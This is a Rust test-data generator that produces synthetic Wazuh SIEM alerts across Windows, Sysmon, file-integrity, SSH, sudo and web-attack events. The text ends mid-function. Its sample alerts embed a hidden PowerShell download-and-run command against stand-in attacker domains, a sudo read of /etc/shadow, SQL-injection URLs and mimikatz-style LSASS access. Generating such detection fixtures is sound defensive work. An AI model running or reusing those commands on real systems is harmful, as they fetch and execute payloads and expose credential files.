//! The generated corpus: Wazuh 4.x alerts as the indexer stores them, modelled on the real
//! alerts in `tests/data/wazuh-alerts/` (FIM files and registry, rootcheck, Sysmon, sshd, PAM,
//! sudo, Windows logon, vulnerability detector, web attacks).
//!
//! Promises:
//! - Deterministic for (seed, end time, count): the same inputs give byte-identical documents,
//!   `_index` and `_id`.
//! - Every alert has `manager.name` and an `id` `"<epoch seconds>.<n>"` unique per manager
//!   (`n` grows like the alerts-log offset Wazuh uses); `timestamp` is in the manager's local
//!   offset (`+0000`, `-0300`, `+0530`, `+1100`), `@timestamp` is UTC.
//! - Rule levels in Wazuh-like proportions: about 2.6% at 12 or more, about 0.1% at 15.

use chrono::{DateTime, FixedOffset, TimeZone, Utc};
use rand::seq::SliceRandom;
use rand::{Rng, RngCore, SeedableRng};
use rand_chacha::ChaCha8Rng;
use serde_json::{json, Map, Value};

use crate::store::RawDoc;

#[derive(Clone, Copy, PartialEq, Eq)]
enum Os {
    Windows,
    Linux,
    /// Alpine or busybox: rootcheck's trojaned-file false positives live here.
    Busybox,
}

struct Manager {
    name: &'static str,
    offset_secs: i32,
    cluster: Option<(&'static str, &'static str)>,
}

struct Agent {
    manager: usize,
    id: &'static str,
    name: &'static str,
    ip: Option<&'static str>,
    os: Os,
    /// The Windows computer name (may differ from the agent name, as in the real samples).
    computer: &'static str,
}

const MANAGERS: [Manager; 4] = [
    Manager {
        name: "wazuh-eu-1",
        offset_secs: 0,
        cluster: Some(("wazuh", "master-eu")),
    },
    Manager {
        name: "wazuh-sa-1",
        offset_secs: -3 * 3600,
        cluster: None,
    },
    Manager {
        name: "wazuh-ap-1",
        offset_secs: 5 * 3600 + 1800,
        cluster: None,
    },
    Manager {
        name: "wazuh-au-1",
        offset_secs: 11 * 3600,
        cluster: Some(("wazuh-au", "node01")),
    },
];

const AGENTS: [Agent; 18] = [
    Agent {
        manager: 0,
        id: "000",
        name: "wazuh-eu-1",
        ip: None,
        os: Os::Linux,
        computer: "",
    },
    Agent {
        manager: 0,
        id: "001",
        name: "DC01",
        ip: Some("10.10.1.10"),
        os: Os::Windows,
        computer: "DC01.corp.local",
    },
    Agent {
        manager: 0,
        id: "002",
        name: "WKS-FIN-07",
        ip: Some("10.10.4.57"),
        os: Os::Windows,
        computer: "WKS-FIN-07",
    },
    Agent {
        manager: 0,
        id: "003",
        name: "web-prod-01",
        ip: Some("10.10.2.21"),
        os: Os::Linux,
        computer: "",
    },
    Agent {
        manager: 0,
        id: "004",
        name: "alpine-cache-01",
        ip: Some("10.10.2.40"),
        os: Os::Busybox,
        computer: "",
    },
    Agent {
        manager: 1,
        id: "000",
        name: "wazuh-sa-1",
        ip: None,
        os: Os::Linux,
        computer: "",
    },
    Agent {
        manager: 1,
        id: "001",
        name: "DESKTOP-NCLALBR",
        ip: Some("192.168.252.120"),
        os: Os::Windows,
        computer: "DESKTOP-NCLALBR.MYORG.ORG",
    },
    Agent {
        manager: 1,
        id: "002",
        name: "db-sa-01",
        ip: Some("192.168.252.30"),
        os: Os::Linux,
        computer: "",
    },
    Agent {
        manager: 1,
        id: "003",
        name: "Alpine-fix",
        ip: Some("10.0.2.15"),
        os: Os::Busybox,
        computer: "",
    },
    Agent {
        manager: 1,
        id: "004",
        name: "SRV-FILE-02",
        ip: Some("192.168.252.12"),
        os: Os::Windows,
        computer: "SRV-FILE-02",
    },
    Agent {
        manager: 2,
        id: "000",
        name: "wazuh-ap-1",
        ip: None,
        os: Os::Linux,
        computer: "",
    },
    Agent {
        manager: 2,
        id: "001",
        name: "WIN-1T5RE39Q2K5",
        ip: Some("10.0.0.9"),
        os: Os::Windows,
        computer: "WIN-1T5RE39Q2K5.cylosec.local",
    },
    Agent {
        manager: 2,
        id: "002",
        name: "bastion-ap",
        ip: Some("10.0.0.4"),
        os: Os::Linux,
        computer: "",
    },
    Agent {
        manager: 2,
        id: "003",
        name: "busybox-iot-17",
        ip: Some("10.0.8.17"),
        os: Os::Busybox,
        computer: "",
    },
    Agent {
        manager: 3,
        id: "000",
        name: "wazuh-au-1",
        ip: None,
        os: Os::Linux,
        computer: "",
    },
    Agent {
        manager: 3,
        id: "001",
        name: "hfw",
        ip: Some("10.7.108.98"),
        os: Os::Windows,
        computer: "DESKTOP-UOJJ5R1",
    },
    Agent {
        manager: 3,
        id: "002",
        name: "k8s-node-au-3",
        ip: Some("10.7.108.13"),
        os: Os::Linux,
        computer: "",
    },
    Agent {
        manager: 3,
        id: "003",
        name: "alpine-edge-03",
        ip: Some("10.7.108.77"),
        os: Os::Busybox,
        computer: "",
    },
];

#[derive(Clone, Copy, Debug)]
enum Kind {
    WinLogonService,
    WinLogonFailed,
    WinLogonMultiFailed,
    SysmonPowershell,
    SysmonCmd,
    SysmonMscorsvw,
    SysmonLsass,
    SysmonDropper,
    SysmonDnsIoc,
    FimModified,
    FimAdded,
    FimDeleted,
    FimRegValue,
    FimRegKey,
    RootcheckTrojanFp,
    RootcheckHidden,
    SshdSuccess,
    SshdFailed,
    SshdInvalid,
    SshdBrute,
    FailuresThenSuccess,
    PamOpened,
    PamClosed,
    SudoRoot,
    SudoFirst,
    Vuln(u8),
    WebSqli,
    WebAttackSuccess,
}

/// (kind, weight per ~10,000). Levels 12+: 80+25+10+30+40+30+20+30 = 265 of 10,045 (2.6%).
const MIX: [(Kind, u32); 32] = [
    (Kind::WinLogonService, 1500),
    (Kind::WinLogonFailed, 400),
    (Kind::WinLogonMultiFailed, 60),
    (Kind::SysmonPowershell, 500),
    (Kind::SysmonCmd, 400),
    (Kind::SysmonMscorsvw, 80),
    (Kind::SysmonLsass, 25),
    (Kind::SysmonDropper, 10),
    (Kind::SysmonDnsIoc, 30),
    (Kind::FimModified, 800),
    (Kind::FimAdded, 300),
    (Kind::FimDeleted, 150),
    (Kind::FimRegValue, 700),
    (Kind::FimRegKey, 400),
    (Kind::RootcheckTrojanFp, 500),
    (Kind::RootcheckHidden, 20),
    (Kind::SshdSuccess, 700),
    (Kind::SshdFailed, 500),
    (Kind::SshdInvalid, 300),
    (Kind::SshdBrute, 60),
    (Kind::FailuresThenSuccess, 20),
    (Kind::PamOpened, 900),
    (Kind::PamClosed, 500),
    (Kind::SudoRoot, 450),
    (Kind::SudoFirst, 40),
    (Kind::Vuln(2), 80),
    (Kind::Vuln(3), 150),
    (Kind::Vuln(4), 200),
    (Kind::Vuln(5), 120),
    (Kind::Vuln(6), 40),
    (Kind::WebSqli, 80),
    (Kind::WebAttackSuccess, 30),
];

const USERS: [&str; 8] = [
    "jsmith",
    "mgarcia",
    "admin",
    "oracle",
    "ubuntu",
    "deploy",
    "akumar",
    "svc_backup",
];
const BAD_IPS: [&str; 6] = [
    "203.0.113.77",
    "198.51.100.23",
    "192.0.2.146",
    "203.0.113.5",
    "198.51.100.200",
    "192.0.2.9",
];
const BAD_DOMAINS: [&str; 4] = [
    "login-microsoftonline-verify.example.net",
    "cdn-update.badcorp.example",
    "pastebin-mirror.example.org",
    "c2.evil-updates.example.com",
];

/// Generates `n` alerts covering the hour before `end`, each with its `_index` and `_id`.
/// `visible_at_ms` is left at 0; [`crate::schedule`] sets it.
pub fn generate(n: usize, seed: u64, end: DateTime<Utc>) -> Vec<RawDoc> {
    let mut rng = ChaCha8Rng::seed_from_u64(seed);
    let end_ms = end.timestamp_millis();
    let mut offsets: Vec<i64> = (0..n).map(|_| rng.gen_range(0..3_600_000)).collect();
    offsets.sort_unstable();
    let total_weight: u32 = MIX.iter().map(|(_, w)| w).sum();
    let mut ftell: Vec<u64> = (0..MANAGERS.len())
        .map(|_| rng.gen_range(1_000..5_000_000))
        .collect();
    let mut fired = std::collections::HashMap::<&'static str, u64>::new();
    let mut out = Vec::with_capacity(n);
    for off in offsets {
        let ts_ms = end_ms - 3_600_000 + off;
        let mut pick = rng.gen_range(0..total_weight);
        let mut kind = MIX[0].0;
        for (k, w) in MIX {
            if pick < w {
                kind = k;
                break;
            }
            pick -= w;
        }
        let agent = pick_agent(&mut rng, kind);
        let mgr = &MANAGERS[agent.manager];
        ftell[agent.manager] += rng.gen_range(400..4_000);
        let mut g = Gen {
            rng: &mut rng,
            agent,
            ts_ms,
        };
        let (rule, extra) = g.build(kind);
        let rule_id = rule["id"].as_str().unwrap_or_default().to_string();
        let count = fired.entry(leak_rule(&rule_id)).or_insert(0);
        *count += 1;
        let source = assemble(agent, mgr, ts_ms, ftell[agent.manager], rule, *count, extra);
        let index = crate::store::daily_index(&source).expect("generated alerts carry timestamp");
        let id = auto_id(&mut rng);
        out.push(RawDoc {
            index,
            id,
            source,
            visible_at_ms: 0,
        });
    }
    out
}

fn leak_rule(id: &str) -> &'static str {
    // Rule ids come from a fixed set in this module; map them to static strings for the
    // firedtimes counter without allocating per alert.
    const IDS: [&str; 32] = [
        "60106", "60122", "60204", "92027", "92032", "92151", "92900", "92213", "100200", "550",
        "554", "553", "750", "594", "510", "5715", "5716", "5710", "5712", "40112", "5501", "5502",
        "5402", "5403", "23502", "23503", "23504", "23505", "23506", "31103", "31106", "other",
    ];
    IDS.iter().find(|x| **x == id).copied().unwrap_or("other")
}

/// An OpenSearch-style auto-generated `_id`: 20 URL-safe base64 characters.
pub fn auto_id(rng: &mut impl RngCore) -> String {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    (0..20)
        .map(|_| ALPHABET[(rng.next_u32() % 64) as usize] as char)
        .collect()
}

fn pick_agent(rng: &mut ChaCha8Rng, kind: Kind) -> &'static Agent {
    let want: &[Os] = match kind {
        Kind::WinLogonService
        | Kind::WinLogonFailed
        | Kind::WinLogonMultiFailed
        | Kind::SysmonPowershell
        | Kind::SysmonCmd
        | Kind::SysmonMscorsvw
        | Kind::SysmonLsass
        | Kind::SysmonDropper
        | Kind::SysmonDnsIoc
        | Kind::FimRegValue
        | Kind::FimRegKey => &[Os::Windows],
        Kind::RootcheckTrojanFp => &[Os::Busybox],
        Kind::FimModified | Kind::FimAdded | Kind::FimDeleted | Kind::Vuln(_) => {
            &[Os::Windows, Os::Linux, Os::Busybox]
        }
        _ => &[Os::Linux],
    };
    let candidates: Vec<&'static Agent> = AGENTS.iter().filter(|a| want.contains(&a.os)).collect();
    candidates
        .choose(rng)
        .copied()
        .expect("every kind has agents")
}

fn assemble(
    agent: &Agent,
    mgr: &Manager,
    ts_ms: i64,
    ftell: u64,
    mut rule: Value,
    firedtimes: u64,
    extra: Map<String, Value>,
) -> Value {
    let utc = Utc
        .timestamp_millis_opt(ts_ms)
        .single()
        .expect("timestamp in range");
    let off = FixedOffset::east_opt(mgr.offset_secs).expect("valid manager offset");
    let local = utc.with_timezone(&off);
    let level = rule["level"].as_i64().unwrap_or(0);
    rule["firedtimes"] = json!(firedtimes);
    rule["mail"] = json!(level >= 12);
    let mut doc = Map::new();
    doc.insert(
        "timestamp".into(),
        json!(local.format("%Y-%m-%dT%H:%M:%S%.3f%z").to_string()),
    );
    doc.insert(
        "@timestamp".into(),
        json!(utc.format("%Y-%m-%dT%H:%M:%S%.3fZ").to_string()),
    );
    doc.insert("rule".into(), rule);
    let mut a = Map::new();
    a.insert("id".into(), json!(agent.id));
    a.insert("name".into(), json!(agent.name));
    if let Some(ip) = agent.ip {
        a.insert("ip".into(), json!(ip));
    }
    doc.insert("agent".into(), Value::Object(a));
    doc.insert("manager".into(), json!({"name": mgr.name}));
    doc.insert(
        "id".into(),
        json!(format!("{}.{}", ts_ms.div_euclid(1000), ftell)),
    );
    if let Some((name, node)) = mgr.cluster {
        doc.insert("cluster".into(), json!({"name": name, "node": node}));
    }
    doc.insert("input".into(), json!({"type": "log"}));
    for (k, v) in extra {
        doc.insert(k, v);
    }
    Value::Object(doc)
}

struct Gen<'a> {
    rng: &'a mut ChaCha8Rng,
    agent: &'static Agent,
    ts_ms: i64,
}

fn hex(rng: &mut ChaCha8Rng, n: usize) -> String {
    (0..n)
        .map(|_| char::from_digit(rng.gen_range(0..16), 16).expect("digit < 16"))
        .collect()
}

/// Doubles backslashes as Wazuh's eventchannel decoder does inside `data.win.*` values.
fn winpath(p: &str) -> String {
    p.replace('\\', "\\\\")
}

impl Gen<'_> {
    fn hex(&mut self, n: usize) -> String {
        hex(self.rng, n)
    }
    fn pick<T: Copy>(&mut self, items: &[T]) -> T {
        *items.choose(self.rng).expect("non-empty list")
    }
    fn utc(&self) -> DateTime<Utc> {
        Utc.timestamp_millis_opt(self.ts_ms)
            .single()
            .expect("timestamp in range")
    }
    fn syslog_time(&self) -> String {
        self.utc().format("%b %e %H:%M:%S").to_string()
    }
    fn host(&self) -> &'static str {
        self.agent.name
    }

    fn build(&mut self, kind: Kind) -> (Value, Map<String, Value>) {
        match kind {
            Kind::WinLogonService => self.win_logon("60106", 3, "Windows Logon Success", "4624", "5", "SYSTEM"),
            Kind::WinLogonFailed => {
                let user = self.pick(&USERS);
                self.win_logon("60122", 5, "Logon Failure - Unknown user or bad password", "4625", "3", user)
            }
            Kind::WinLogonMultiFailed => {
                let user = self.pick(&USERS);
                self.win_logon("60204", 10, "Multiple Windows Logon Failures", "4625", "3", user)
            }
            Kind::SysmonPowershell => self.sysmon_proc(
                "92027",
                4,
                "Powershell process spawned powershell instance",
                r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -Command "Get-LocalUser; Get-Process; whoami""#.to_string(),
                ("T1059.001", "Execution", "PowerShell"),
            ),
            Kind::SysmonCmd => self.sysmon_proc(
                "92032",
                3,
                "Suspicious Windows cmd shell execution",
                r"C:\Windows\System32\cscript.exe",
                r"C:\Windows\System32\cmd.exe",
                r#"cscript  //nologo "C:\Windows\System32\winrm.vbs" set winrm/config/client/auth System.Collections.Hashtable"#.to_string(),
                ("T1059.003", "Execution", "Windows Command Shell"),
            ),
            Kind::SysmonMscorsvw => self.sysmon_mscorsvw(),
            Kind::SysmonLsass => self.sysmon_lsass(),
            Kind::SysmonDropper => {
                let name = format!("{}.exe", self.hex(8));
                let path = format!(r"C:\Users\Public\Downloads\{name}");
                let url = format!("http://{}/dl/{name}", self.pick(&BAD_DOMAINS));
                let cmd = format!(r#"powershell.exe -w hidden -c "iwr {url} -OutFile {path}; Start-Process {path}""#);
                self.sysmon_proc(
                    "92213",
                    15,
                    "Executable file dropped in folder commonly used by malware",
                    &path,
                    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                    cmd,
                    ("T1105", "Command and Control", "Ingress Tool Transfer"),
                )
            }
            Kind::SysmonDnsIoc => self.sysmon_dns(),
            Kind::FimModified => self.fim_file("550", 7, "Integrity checksum changed.", "modified"),
            Kind::FimAdded => self.fim_file("554", 5, "File added to the system.", "added"),
            Kind::FimDeleted => self.fim_file("553", 7, "File deleted.", "deleted"),
            Kind::FimRegValue => self.fim_registry(true),
            Kind::FimRegKey => self.fim_registry(false),
            Kind::RootcheckTrojanFp => {
                let file = self.pick(&["/usr/bin/md5sum", "/bin/kill", "/bin/ls", "/usr/bin/find", "/bin/ps", "/bin/netstat"]);
                let full = format!("Trojaned version of file '{file}' detected. Signature used: 'bash|^/bin/sh|file\\.h|proc\\.h|/dev/|^/bin/.*sh' (Generic).");
                self.rootcheck(full, json!({"title": "Trojaned version of file detected.", "file": file}))
            }
            Kind::RootcheckHidden => {
                let pid = self.rng.gen_range(300..40_000);
                let full = format!("Process '{pid}' hidden from /proc. Possible kernel level rootkit.");
                self.rootcheck(full, json!({"title": "Process hidden from /proc.", "pid": pid.to_string()}))
            }
            Kind::SshdSuccess => {
                let user = self.pick(&USERS);
                let ip = format!("10.{}.{}.{}", self.rng.gen_range(0..255), self.rng.gen_range(0..255), self.rng.gen_range(1..255));
                let port = self.rng.gen_range(30_000..65_000);
                let log = format!("{} {} sshd[{}]: Accepted publickey for {user} from {ip} port {port} ssh2: RSA SHA256:{}", self.syslog_time(), self.host(), self.rng.gen_range(1000..60_000), self.hex(43));
                self.sshd("5715", 3, "sshd: authentication success.", &["syslog", "sshd", "authentication_success"], log, json!({"srcip": ip, "srcport": port.to_string(), "dstuser": user}), ("T1078", "Initial Access", "Valid Accounts"))
            }
            Kind::SshdFailed => {
                let user = self.pick(&["root", "admin", "oracle"]);
                let ip = self.pick(&BAD_IPS);
                let port = self.rng.gen_range(30_000..65_000);
                let log = format!("{} {} sshd[{}]: Failed password for {user} from {ip} port {port} ssh2", self.syslog_time(), self.host(), self.rng.gen_range(1000..60_000));
                self.sshd("5716", 5, "sshd: authentication failed.", &["syslog", "sshd", "authentication_failed"], log, json!({"srcip": ip, "srcport": port.to_string(), "dstuser": user}), ("T1110.001", "Credential Access", "Password Guessing"))
            }
            Kind::SshdInvalid => {
                let user = self.pick(&["paco", "test", "guest", "pi", "ftpuser"]);
                let ip = self.pick(&BAD_IPS);
                let port = self.rng.gen_range(30_000..65_000);
                let log = format!("{} {} sshd[{}]: Invalid user {user} from {ip} port {port}", self.syslog_time(), self.host(), self.rng.gen_range(1000..60_000));
                self.sshd("5710", 5, "sshd: Attempt to login using a non-existent user", &["syslog", "sshd", "authentication_failed", "invalid_login"], log, json!({"srcip": ip, "srcport": port.to_string(), "srcuser": user}), ("T1110", "Credential Access", "Brute Force"))
            }
            Kind::SshdBrute => {
                let user = self.pick(&["paco", "test", "guest"]);
                let ip = self.pick(&BAD_IPS);
                let port = self.rng.gen_range(30_000..65_000);
                let log = format!("{} {} sshd[{}]: Invalid user {user} from {ip} port {port}", self.syslog_time(), self.host(), self.rng.gen_range(1000..60_000));
                let (mut rule, mut extra) = self.sshd("5712", 10, "sshd: brute force trying to get access to the system. Non existent user.", &["syslog", "sshd", "authentication_failures"], log, json!({"srcip": ip, "srcport": port.to_string(), "srcuser": user}), ("T1110", "Credential Access", "Brute Force"));
                rule["frequency"] = json!(8);
                extra.insert("previous_output".into(), json!(format!("{} {} sshd[{}]: Invalid user {user} from {ip} port {}", self.syslog_time(), self.host(), self.rng.gen_range(1000..60_000), port - 2)));
                (rule, extra)
            }
            Kind::FailuresThenSuccess => {
                let user = self.pick(&USERS);
                let ip = self.pick(&BAD_IPS);
                let port = self.rng.gen_range(30_000..65_000);
                let log = format!("{} {} sshd[{}]: Accepted password for {user} from {ip} port {port} ssh2", self.syslog_time(), self.host(), self.rng.gen_range(1000..60_000));
                let (mut rule, extra) = self.sshd("40112", 12, "Multiple authentication failures followed by a success.", &["syslog", "attacks", "authentication_success"], log, json!({"srcip": ip, "srcport": port.to_string(), "dstuser": user}), ("T1110", "Credential Access", "Brute Force"));
                rule["frequency"] = json!(6);
                (rule, extra)
            }
            Kind::PamOpened | Kind::PamClosed => {
                let opened = matches!(kind, Kind::PamOpened);
                let user = self.pick(&USERS);
                let verb = if opened { "opened" } else { "closed" };
                let by = if opened { " by (uid=0)" } else { "" };
                let log = format!("{} {} sshd[{}]: pam_unix(sshd:session): session {verb} for user {user}{by}", self.syslog_time(), self.host(), self.rng.gen_range(1000..60_000));
                let (id, desc) = if opened { ("5501", "PAM: Login session opened.") } else { ("5502", "PAM: Login session closed.") };
                let mut rule = self.rule(id, 3, desc, &["pam", "syslog", if opened { "authentication_success" } else { "authentication_closed" }]);
                rule["mitre"] = mitre(("T1078", "Initial Access", "Valid Accounts"));
                let mut e = Map::new();
                e.insert("full_log".into(), json!(log));
                e.insert("predecoder".into(), json!({"program_name": "sshd", "timestamp": self.syslog_time(), "hostname": self.host()}));
                e.insert("decoder".into(), json!({"parent": "pam", "name": "pam"}));
                e.insert("data".into(), json!({"dstuser": user, "uid": "0"}));
                e.insert("location".into(), json!(self.pick(&["/var/log/secure", "/var/log/auth.log"])));
                (rule, e)
            }
            Kind::SudoRoot | Kind::SudoFirst => {
                let first = matches!(kind, Kind::SudoFirst);
                let user = self.pick(&USERS);
                let cmd = self.pick(&["/bin/bash -l", "/usr/bin/systemctl restart nginx", "/usr/bin/apt-get upgrade -y", "/usr/bin/journalctl -u sshd", "/bin/cat /etc/shadow"]);
                let log = format!("{} {} sudo:  {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND={cmd}", self.syslog_time(), self.host());
                let (id, level, desc) = if first { ("5403", 4, "First time user executed sudo.") } else { ("5402", 3, "Successful sudo to ROOT executed.") };
                let mut rule = self.rule(id, level, desc, &["syslog", "sudo"]);
                rule["mitre"] = mitre(("T1548.003", "Privilege Escalation", "Sudo and Sudo Caching"));
                let mut e = Map::new();
                e.insert("full_log".into(), json!(log));
                e.insert("predecoder".into(), json!({"program_name": "sudo", "timestamp": self.syslog_time(), "hostname": self.host()}));
                e.insert("decoder".into(), json!({"parent": "sudo", "name": "sudo"}));
                e.insert("data".into(), json!({"srcuser": user, "dstuser": "root", "tty": "pts/0", "pwd": format!("/home/{user}"), "command": cmd}));
                e.insert("location".into(), json!("/var/log/auth.log"));
                (rule, e)
            }
            Kind::Vuln(sev) => self.vuln(sev),
            Kind::WebSqli | Kind::WebAttackSuccess => {
                let success = matches!(kind, Kind::WebAttackSuccess);
                let ip = self.pick(&BAD_IPS);
                let path = self.pick(&["/index.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", "/search?q=%27%20OR%201=1--", "/wp-login.php?redirect_to=http://cdn-update.badcorp.example/x"]);
                let code = if success { 200 } else { self.pick(&[403, 404, 500]) };
                let log = format!("{ip} - - [{}] \"GET {path} HTTP/1.1\" {code} 512 \"-\" \"sqlmap/1.7.2#stable (https://sqlmap.org)\"", self.utc().format("%d/%b/%Y:%H:%M:%S +0000"));
                let (id, level, desc) = if success {
                    ("31106", 12, "A web attack returned code 200 (success).")
                } else {
                    ("31103", 7, "SQL injection attempt.")
                };
                let mut rule = self.rule(id, level, desc, &["web", "accesslog", "attack", "sql_injection"]);
                rule["mitre"] = mitre(("T1190", "Initial Access", "Exploit Public-Facing Application"));
                let mut e = Map::new();
                e.insert("full_log".into(), json!(log));
                e.insert("decoder".into(), json!({"name": "web-accesslog"}));
                e.insert("data".into(), json!({"protocol": "GET", "srcip": ip, "id": code.to_string(), "url": path}));
                e.insert("location".into(), json!("/var/log/nginx/access.log"));
                (rule, e)
            }
        }
    }

    fn rule(&mut self, id: &str, level: i64, desc: &str, groups: &[&str]) -> Value {
        json!({"level": level, "description": desc, "id": id, "groups": groups})
    }

    #[allow(clippy::too_many_arguments)]
    fn sshd(
        &mut self,
        id: &str,
        level: i64,
        desc: &str,
        groups: &[&str],
        log: String,
        data: Value,
        m: (&str, &str, &str),
    ) -> (Value, Map<String, Value>) {
        let mut rule = self.rule(id, level, desc, groups);
        rule["mitre"] = mitre(m);
        rule["pci_dss"] = json!(["10.2.4", "10.2.5"]);
        let mut e = Map::new();
        e.insert("full_log".into(), json!(log));
        e.insert("predecoder".into(), json!({"program_name": "sshd", "timestamp": self.syslog_time(), "hostname": self.host()}));
        e.insert("decoder".into(), json!({"parent": "sshd", "name": "sshd"}));
        e.insert("data".into(), data);
        e.insert(
            "location".into(),
            json!(self.pick(&["/var/log/secure", "/var/log/auth.log"])),
        );
        (rule, e)
    }

    fn win_system(&mut self, provider: &str, channel: &str, event_id: &str) -> Value {
        json!({
            "providerName": provider,
            "eventID": event_id,
            "channel": channel,
            "computer": if self.agent.computer.is_empty() { self.agent.name } else { self.agent.computer },
            "eventRecordID": self.rng.gen_range(100_000..3_000_000).to_string(),
            "systemTime": format!("{}.{:07}Z", self.utc().format("%Y-%m-%dT%H:%M:%S"), self.utc().timestamp_subsec_nanos() / 100),
            "level": "0",
            "severityValue": if event_id == "4625" { "AUDIT_FAILURE" } else if channel == "Security" { "AUDIT_SUCCESS" } else { "INFORMATION" },
        })
    }

    fn win_logon(
        &mut self,
        id: &str,
        level: i64,
        desc: &str,
        event_id: &str,
        logon_type: &str,
        user: &str,
    ) -> (Value, Map<String, Value>) {
        let mut rule = self.rule(
            id,
            level,
            desc,
            &[
                "windows",
                "windows_security",
                if event_id == "4624" {
                    "authentication_success"
                } else {
                    "authentication_failed"
                },
            ],
        );
        rule["mitre"] = mitre(("T1078", "Initial Access", "Valid Accounts"));
        let system = self.win_system("Microsoft-Windows-Security-Auditing", "Security", event_id);
        let service = logon_type == "5";
        let ip = if service {
            "-".to_string()
        } else {
            self.pick(&BAD_IPS).to_string()
        };
        let eventdata = json!({
            "logonType": logon_type,
            "targetUserName": user,
            "targetDomainName": if service { "NT AUTHORITY" } else { "CORP" },
            "targetUserSid": if service { "S-1-5-18" } else { "S-1-0-0" },
            "subjectUserName": format!("{}$", self.agent.name),
            "logonProcessName": if service { "Advapi" } else { "NtLmSsp" },
            "authenticationPackageName": if service { "Negotiate" } else { "NTLM" },
            "processName": winpath(r"C:\Windows\System32\services.exe"),
            "ipAddress": ip,
            "workstationName": if service { "-" } else { "KALI" },
        });
        let mut e = Map::new();
        e.insert("decoder".into(), json!({"name": "windows_eventchannel"}));
        e.insert(
            "data".into(),
            json!({"win": {"system": system, "eventdata": eventdata}}),
        );
        e.insert("location".into(), json!("EventChannel"));
        (rule, e)
    }

    #[allow(clippy::too_many_arguments)]
    fn sysmon_proc(
        &mut self,
        id: &str,
        level: i64,
        desc: &str,
        image: &str,
        parent: &str,
        cmd: String,
        m: (&str, &str, &str),
    ) -> (Value, Map<String, Value>) {
        let mut rule = self.rule(
            id,
            level,
            desc,
            &["sysmon", "sysmon_eid1_detections", "windows"],
        );
        rule["mitre"] = mitre(m);
        let system = self.win_system(
            "Microsoft-Windows-Sysmon",
            "Microsoft-Windows-Sysmon/Operational",
            "1",
        );
        let hashes = format!(
            "MD5={},SHA256={},IMPHASH={}",
            self.hex(32).to_uppercase(),
            self.hex(64).to_uppercase(),
            self.hex(32).to_uppercase()
        );
        let user = format!(r"CORP\{}", self.pick(&USERS));
        let eventdata = json!({
            "image": winpath(image),
            "parentImage": winpath(parent),
            "commandLine": winpath(&cmd.replace('"', "\\\"")),
            "parentCommandLine": winpath(parent),
            "hashes": hashes,
            "user": winpath(&user),
            "processId": self.rng.gen_range(1000..30_000).to_string(),
            "parentProcessId": self.rng.gen_range(1000..30_000).to_string(),
            "integrityLevel": self.pick(&["Medium", "High"]),
            "utcTime": self.utc().format("%Y-%m-%d %H:%M:%S%.3f").to_string(),
            "currentDirectory": winpath(r"C:\Windows\system32\"),
        });
        let mut e = Map::new();
        e.insert("decoder".into(), json!({"name": "windows_eventchannel"}));
        e.insert(
            "data".into(),
            json!({"win": {"system": system, "eventdata": eventdata}}),
        );
        e.insert("location".into(), json!("EventChannel"));
        (rule, e)
    }

    fn sysmon_mscorsvw(&mut self) -> (Value, Map<String, Value>) {
        let mut rule = self.rule("92151", 12, "Binary loaded PowerShell automation library - Possible unmanaged Powershell execution by suspicious process", &["sysmon", "sysmon_eid7_detections", "windows"]);
        rule["mitre"] = mitre(("T1059.001", "Execution", "PowerShell"));
        let system = self.win_system(
            "Microsoft-Windows-Sysmon",
            "Microsoft-Windows-Sysmon/Operational",
            "7",
        );
        let fw = self.pick(&["Framework", "Framework64"]);
        let eventdata = json!({
            "image": winpath(&format!(r"C:\Windows\Microsoft.NET\{fw}\v4.0.30319\mscorsvw.exe")),
            "imageLoaded": winpath(&format!(r"C:\Windows\assembly\NativeImages_v4.0.30319_32\System.Manaa57fc8cc#\{}\System.Management.Automation.ni.dll", self.hex(32))),
            "originalFileName": "System.Management.Automation.dll",
            "description": "System.Management.Automation",
            "signed": "false",
            "signatureStatus": "Unavailable",
            "hashes": format!("SHA256={}", self.hex(64).to_uppercase()),
            "user": winpath(r"NT AUTHORITY\SYSTEM"),
            "utcTime": self.utc().format("%Y-%m-%d %H:%M:%S%.3f").to_string(),
        });
        let mut e = Map::new();
        e.insert("decoder".into(), json!({"name": "windows_eventchannel"}));
        e.insert(
            "data".into(),
            json!({"win": {"system": system, "eventdata": eventdata}}),
        );
        e.insert("location".into(), json!("EventChannel"));
        (rule, e)
    }

    fn sysmon_lsass(&mut self) -> (Value, Map<String, Value>) {
        let mut rule = self.rule(
            "92900",
            12,
            "Lsass process was accessed by a suspicious process - possible credential dump",
            &["sysmon", "sysmon_eid10_detections", "windows"],
        );
        rule["mitre"] = mitre(("T1003.001", "Credential Access", "LSASS Memory"));
        let system = self.win_system(
            "Microsoft-Windows-Sysmon",
            "Microsoft-Windows-Sysmon/Operational",
            "10",
        );
        let src = self.pick(&[
            r"C:\Users\Public\mimikatz.exe",
            r"C:\Windows\Temp\procdump64.exe",
            r"C:\ProgramData\rundll32.exe",
        ]);
        let eventdata = json!({
            "sourceImage": winpath(src),
            "targetImage": winpath(r"C:\Windows\system32\lsass.exe"),
            "grantedAccess": "0x1010",
            "sourceUser": winpath(&format!(r"CORP\{}", self.pick(&USERS))),
            "utcTime": self.utc().format("%Y-%m-%d %H:%M:%S%.3f").to_string(),
        });
        let mut e = Map::new();
        e.insert("decoder".into(), json!({"name": "windows_eventchannel"}));
        e.insert(
            "data".into(),
            json!({"win": {"system": system, "eventdata": eventdata}}),
        );
        e.insert("location".into(), json!("EventChannel"));
        (rule, e)
    }

    fn sysmon_dns(&mut self) -> (Value, Map<String, Value>) {
        let mut rule = self.rule(
            "100200",
            12,
            "DNS query to a domain on the threat-intel blocklist",
            &["sysmon", "sysmon_event_22", "windows", "ioc"],
        );
        rule["mitre"] = mitre(("T1071.004", "Command and Control", "DNS"));
        let system = self.win_system(
            "Microsoft-Windows-Sysmon",
            "Microsoft-Windows-Sysmon/Operational",
            "22",
        );
        let domain = self.pick(&BAD_DOMAINS);
        let eventdata = json!({
            "queryName": domain,
            "queryStatus": "0",
            "queryResults": format!("::ffff:{};", self.pick(&BAD_IPS)),
            "image": winpath(r"C:\Program Files\Google\Chrome\Application\chrome.exe"),
